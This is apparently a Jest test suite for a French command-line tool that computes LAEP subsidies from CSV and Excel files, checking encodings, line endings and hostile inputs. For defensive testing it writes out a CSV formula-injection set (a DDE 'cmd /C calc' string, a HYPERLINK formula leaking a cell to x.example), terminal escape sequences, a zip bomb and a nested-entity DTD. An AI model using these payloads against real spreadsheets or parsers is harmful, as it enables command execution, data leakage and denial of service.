/**
 * Files as they come, and files made to hurt: line endings mixed, a late
 * accent, UTF-16, formulas hidden in names, escape sequences, a zip bomb,
 * an interruption. Each case runs the built bin on a file the test writes.
 */
import { spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import JSZip from "jszip";
import { BIN, cli, sansTrace } from "../../support/cli";

jest.setTimeout(120_000);

const dossier = () => mkdtempSync(join(tmpdir(), "laep-hostile-"));
const ENTETE = "nom;heures_ouverture;heures_organisation;charges;taux;prix_plafond";
// 400 h + 200 h ; 60 % × min(12 000 ; 18 000) = 7 200 (by hand); 300 + 100 h ; 60 % × min(15 000 ; 12 000) = 7 200.
const A = "A;400;300;12000;60;30";
const B = "B;300;100;15000;60;30";
const lire = (chemin: string, sep = ";") => parse(readFileSync(chemin, "utf8"), { delimiter: sep, bom: true, relax_column_count: true }) as string[][];
const sansDossiersCaches = (d: string) => readdirSync(d).filter((f) => f.startsWith("."));

describe("fins de ligne mélangées : chaque résultat reste sur la ligne de son LAEP", () => {
  it.each([
    ["en-tête CRLF puis lignes LF", `${ENTETE}\r\n${A}\n${B}\n`],
    ["en-tête LF puis lignes CRLF", `${ENTETE}\n${A}\r\n${B}\r\n`],
    ["CR seuls (ancien Mac)", `${ENTETE}\r${A}\r${B}\r`],
    ["mélange sur chaque ligne", `${ENTETE}\r\n${A}\r${B}\n`],
  ])("%s", (_cas, contenu) => {
    const d = dossier();
    writeFileSync(join(d, "p.csv"), contenu);
    const r = cli(["calcul", join(d, "p.csv")]);
    expect([r.code, r.erreurs]).toEqual([0, ""]);
    const t = lire(join(d, "p-calcul.csv"));
    expect(t.map((l) => [l[0], l[6], l[7]])).toEqual([
      ["nom", "heures_fonctionnement", "subvention"],
      ["A", "600", "7200,00"],
      ["B", "400", "7200,00"],
    ]);
  });
});

describe("encodages", () => {
  it("lit en Windows-1252 un fichier dont le premier accent vient après 64 Kio", () => {
    const d = dossier();
    const lignes = [ENTETE];
    for (let i = 0; i < 3000; i++) lignes.push(`LAEP numero ${i};400;300;12000;60;30`);
    lignes.push("Crèche;400;300;12000;60;30");
    writeFileSync(join(d, "tard.csv"), iconv.encode(`${lignes.join("\r\n")}\r\n`, "windows-1252"));
    expect(readFileSync(join(d, "tard.csv")).indexOf(0xe8)).toBeGreaterThan(65536);
    const r = cli(["calcul", join(d, "tard.csv")]);
    expect([r.code, r.erreurs]).toEqual([0, ""]);
    const sortie = iconv.decode(readFileSync(join(d, "tard-calcul.csv")), "windows-1252");
    expect(sortie).toContain("\r\nCrèche;400;300;12000;60;30;600;7200,00;");
    expect(sortie).not.toContain("\ufffd");
  });

  it("lit le « Texte Unicode » d'Excel (UTF-16 avec BOM, tabulations) et le réécrit de même", () => {
    const d = dossier();
    const texte = `\ufeff${ENTETE.replace(/;/g, "\t")}\r\n${"Étoile\t400\t300\t12000\t0,6\t30"}\r\n`;
    writeFileSync(join(d, "unicode.csv"), iconv.encode(texte, "utf-16le"));
    const r = cli(["calcul", join(d, "unicode.csv")]);
    expect([r.code, r.erreurs]).toEqual([0, ""]);
    const brut = readFileSync(join(d, "unicode-calcul.csv"));
    expect([...brut.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    const t = parse(iconv.decode(brut, "utf-16le"), { delimiter: "\t", bom: true }) as string[][];
    expect(t[1].slice(0, 8)).toEqual(["Étoile", "400", "300", "12000", "0,6", "30", "600", "7200,00"]);
  });
});

describe("UTF-16 sans BOM", () => {
  it.each([["utf-16le"], ["utf-16be"]] as const)("lit un fichier %s sans BOM au lieu de le dire binaire", (encodage) => {
    const d = dossier();
    writeFileSync(join(d, "sans-bom.csv"), iconv.encode(`${ENTETE}\r\n${A}\r\n`, encodage));
    const r = cli(["calcul", join(d, "sans-bom.csv")]);
    expect([r.code, r.erreurs]).toEqual([0, ""]);
    const t = parse(iconv.decode(readFileSync(join(d, "sans-bom-calcul.csv")), encodage), { delimiter: ";" }) as string[][];
    expect(t[1].slice(6, 8)).toEqual(["600", "7200,00"]);
  });
});

describe("numéros de ligne : ceux qu'Excel affiche", () => {
  it("compte les lignes vides comme Excel, et une valeur sur deux lignes comme une seule", () => {
    const d = dossier();
    writeFileSync(join(d, "trous.csv"), `${ENTETE}\r\n${A}\r\n\r\n"B\r\nsur deux lignes";300;100;15000;60;30\r\n\r\nC;250;;7000;60;30\r\n`);
    const r = cli(["calcul", join(d, "trous.csv")]);
    expect(r.code).toBe(1);
    // Excel: 1 header, 2 A, 3 empty, 4 B (two lines, one row), 5 empty, 6 C.
    expect(r.erreurs).toMatch(/^Ligne 6 : heures_organisation : la valeur est vide/);
  });
});

describe("injection de formules : rien de ce qui est écrit ne s'exécute à l'ouverture dans Excel", () => {
  it("neutralise le texte recopié qui commence par =, +, -, @, tabulation ou retour chariot, pas les vrais nombres", () => {
    const d = dossier();
    const noms = ['=HYPERLINK("http://x.example/?"&A1;"Voir")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"];
    const lignes = [`${ENTETE};note`, ...noms.map((n, i) => `"${n.replace(/"/g, '""')}";400;300;12000;60;30;${i === 0 ? "-5" : i === 1 ? "-1 234,50" : "+5"}`)];
    writeFileSync(join(d, "piege.csv"), `${lignes.join("\r\n")}\r\n`);
    const r = cli(["calcul", join(d, "piege.csv")]);
    expect(r.code).toBe(0);
    const t = lire(join(d, "piege-calcul.csv"));
    expect(t.slice(1).map((l) => l[0])).toEqual(noms.map((n) => `'${n}`));
    expect(t.slice(1).map((l) => l[6])).toEqual(["-5", "-1 234,50", "+5", "+5", "+5", "+5"]);
    for (const l of t) for (const c of l) if (!/^[+-]?\d[\d ]*(,\d+)?$/.test(c)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("neutralise aussi un nom de colonne piégé", () => {
    const d = dossier();
    writeFileSync(join(d, "entete.csv"), `${ENTETE};=1+1\r\n${A};x\r\n`);
    cli(["calcul", join(d, "entete.csv")]);
    expect(lire(join(d, "entete-calcul.csv"))[0][6]).toBe("'=1+1");
  });
});

describe("caractères de contrôle : rien n'atteint le terminal tel quel", () => {
  it("montre les séquences d'échappement d'un nom de fichier ou de feuille, sans les envoyer", () => {
    const d = dossier();
    const nom = join(d, "x\u001b]0;titre\u0007\u001b[2J.csv");
    const r = cli(["calcul", nom]);
    expect(r.code).toBe(2);
    expect(r.erreurs).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(r.erreurs).toContain("x\\x1B]0;titre\\x07\\x1B[2J.csv");
  });
});

describe("caractères de contrôle venus d'un classeur", () => {
  it("échappe un caractère de contrôle C1 (CSI) dans un nom de feuille, à l'écran", async () => {
    const d = dossier();
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("Feuille").addRow(["heures_ouverture"]);
    await wb.xlsx.writeFile(join(d, "c1.xlsx"));
    const zip = await JSZip.loadAsync(readFileSync(join(d, "c1.xlsx")));
    // Rebuilt part by part in the original order: workbook.xml stays before the sheets, as Excel writes it
    // (ExcelJS's streaming reader fails at random on a sheet met before workbook.xml).
    const copie = new JSZip();
    for (const [nom, partie] of Object.entries(zip.files)) {
      if (partie.dir) continue;
      const contenu = await partie.async("string");
      copie.file(nom, nom === "xl/workbook.xml" ? contenu.replace('name="Feuille"', 'name="a\u009b2Jb"') : contenu);
    }
    writeFileSync(join(d, "c1.xlsx"), await copie.generateAsync({ type: "nodebuffer" }));
    const r = cli(["calcul", join(d, "c1.xlsx"), "--feuille", "X"]);
    expect(r.code).toBe(2);
    expect(r.erreurs).toContain("feuilles présentes : a\\x9B2Jb.");
    expect(r.erreurs).not.toMatch(/[\u0080-\u009f]/);
  });
});

describe("fichiers qui se décompressent démesurément", () => {
  it("refuse un classeur de quelques Mo qui contient des centaines de Mo de texte, sans planter ni laisser de fichier", async () => {
    const d = dossier();
    const zip = new JSZip();
    zip.file("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
    zip.file("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="F" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>');
    const bloc = `<si><t>${"A".repeat(1 << 20)}</t></si>`;
    zip.file("xl/sharedStrings.xml", `<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${bloc.repeat(200)}</sst>`);
    zip.file("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>');
    const octets = await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } });
    expect(octets.length).toBeLessThan(2_000_000);
    writeFileSync(join(d, "bombe.xlsx"), octets);
    for (const commande of [["calcul", join(d, "bombe.xlsx")], ["audit", join(d, "bombe.xlsx")]]) {
      const r = cli(commande, { nodeOptions: ["--max-old-space-size=64"] });
      expect(r.code).toBe(2);
      expect(r.erreurs).toMatch(/^Erreur : Le classeur .*bombe\.xlsx se décompresse en plus de 128 Mo \(son texte \(chaînes partagées\)\) : ce n'est pas un classeur ordinaire, il n'est pas lu\.\n$/);
      expect(sansTrace(r.erreurs)).toBe(true);
    }
    expect(readdirSync(d)).toEqual(["bombe.xlsx"]);
  });

  it("refuse une déclaration DTD (entités en cascade) sans la développer", async () => {
    const d = dossier();
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("F").addRow(["heures_ouverture"]);
    await wb.xlsx.writeFile(join(d, "dtd.xlsx"));
    const zip = await JSZip.loadAsync(readFileSync(join(d, "dtd.xlsx")));
    const xml = await zip.file("xl/workbook.xml")!.async("string");
    const entites = '<!DOCTYPE workbook [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';
    zip.file("xl/workbook.xml", xml.replace(/^(<\?xml[^>]*\?>)/, `$1${entites}`));
    writeFileSync(join(d, "dtd.xlsx"), await zip.generateAsync({ type: "nodebuffer" }));
    for (const commande of [["calcul", join(d, "dtd.xlsx")], ["audit", join(d, "dtd.xlsx")]]) {
      const r = cli(commande);
      expect([r.code, r.erreurs]).toEqual([2, `Erreur : Le classeur ${join(d, "dtd.xlsx")} contient une déclaration DTD (xl/workbook.xml) : Excel n'en écrit jamais, il n'est pas lu.\n`]);
    }
    expect(readdirSync(d)).toEqual(["dtd.xlsx"]);
  });

  it("refuse en français un classeur tronqué", () => {
    const d = dossier();
    writeFileSync(join(d, "coupe.xlsx"), Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 1)]));
    const r = cli(["calcul", join(d, "coupe.xlsx")]);
    expect(r.code).toBe(2);
    expect(r.erreurs).toMatch(/^Erreur : Le fichier .*coupe\.xlsx n'est pas un classeur \.xlsx lisible \(ce n'est pas une archive zip, ou elle est tronquée\)\.\n$/);
  });
});

describe("CSV mal formés : le message de la bibliothèque, en français", () => {
  it("dit où un guillemet n'est jamais refermé", () => {
    const d = dossier();
    writeFileSync(join(d, "guillemet.csv"), `${ENTETE}\r\n${A}\r\n"B;300;100;15000;60;30\r\nC;1;1;1;1;1\r\n`);
    const r = cli(["calcul", join(d, "guillemet.csv")]);
    expect([r.code, sansTrace(r.erreurs)]).toEqual([2, true]);
    expect(r.erreurs).toBe(`Erreur : Le fichier ${join(d, "guillemet.csv")} n'est pas un CSV lisible : un guillemet ouvert à la ligne 3 n'est jamais refermé.\n`);
    expect(sansDossiersCaches(d)).toEqual([]);
    expect(existsSync(join(d, "guillemet-calcul.csv"))).toBe(false);
  });
});

describe("erreurs du système, en français, avec le chemin de l'utilisateur", () => {
  const d = dossier();
  writeFileSync(join(d, "p.csv"), `${ENTETE}\r\n${A}\r\n`);
  mkdirSync(join(d, "un dossier.csv"));

  it.each([
    ["un dossier en entrée", ["calcul", join(d, "un dossier.csv")], `Erreur : ${join(d, "un dossier.csv")} est un dossier : donnez le fichier du portefeuille (.csv ou .xlsx).`],
    ["une sortie dans un dossier absent", ["calcul", join(d, "p.csv"), "-o", join(d, "absent", "r.csv")], `Erreur : Le dossier ${join(d, "absent")} n'existe pas : créez-le, ou choisissez un autre chemin avec -o.`],
    ["un dossier en sortie", ["calcul", join(d, "p.csv"), "-o", join(d, "un dossier.csv"), "--force"], `Erreur : ${join(d, "un dossier.csv")} est un dossier : donnez un nom de fichier avec -o.`],
    ["une sortie sans format", ["calcul", join(d, "p.csv"), "-o", join(d, "r.ods")], `Erreur : La sortie ${join(d, "r.ods")} doit finir par .csv ou .xlsx : c'est son extension qui choisit le format.`],
    ["un dossier à auditer", ["audit", join(d, "un dossier.csv")], `Erreur : ${join(d, "un dossier.csv")} est un dossier : donnez le classeur .xlsx à auditer.`],
  ])("%s", (_cas, args, message) => {
    const r = cli(args);
    expect([r.code, r.erreurs]).toEqual([2, `${message}\n`]);
    expect(r.erreurs).not.toMatch(/partiel|ENOENT|EISDIR|EACCES/);
  });
});

describe("colonnes", () => {
  it("refuse un fichier de résultats redonné en entrée, sans rien écrire", () => {
    const d = dossier();
    writeFileSync(join(d, "p.csv"), `${ENTETE}\r\n${A}\r\n`);
    expect(cli(["calcul", join(d, "p.csv")]).code).toBe(0);
    const r = cli(["calcul", join(d, "p-calcul.csv"), "-o", join(d, "encore.xlsx")]);
    expect([r.code, r.erreurs]).toEqual([2, "Erreur : Le fichier contient déjà des colonnes de résultat (heures_fonctionnement, subvention, bonus_ctg, ecretement, total_fonds_nationaux, reste_a_financer, erreur) : donnez le fichier d'origine, sans elles.\n"]);
    expect(readdirSync(d).sort()).toEqual(["p-calcul.csv", "p.csv"]);
  });
});

describe("interruption", () => {
  it.each([["SIGTERM", 143], ["SIGINT", 130]] as const)("%s pendant l'écriture ne laisse aucun fichier partiel", async (signal, code) => {
    const d = dossier();
    const lignes = [ENTETE];
    for (let i = 0; i < 200_000; i++) lignes.push(`L${i};400;300;12000;60;30`);
    writeFileSync(join(d, "gros.csv"), lignes.join("\n"));
    const enfant = spawn(process.execPath, [BIN, "calcul", join(d, "gros.csv"), "-o", join(d, "gros.xlsx")], { stdio: ["ignore", "pipe", "pipe"] });
    let erreurs = "";
    enfant.stderr.on("data", (x) => (erreurs += x));
    // Wait for the temporary file to appear, then interrupt.
    for (let i = 0; i < 400 && !readdirSync(d).some((f) => f.endsWith(".partiel")); i++) await new Promise((r) => setTimeout(r, 25));
    expect(readdirSync(d).some((f) => f.endsWith(".partiel"))).toBe(true);
    enfant.kill(signal);
    const sortie = await new Promise<number | null>((r) => enfant.on("exit", (c) => r(c)));
    expect(sortie).toBe(code);
    expect(readdirSync(d)).toEqual(["gros.csv"]);
    expect(erreurs).toContain("Interrompu : aucun fichier de résultats n'a été écrit");
  });
});
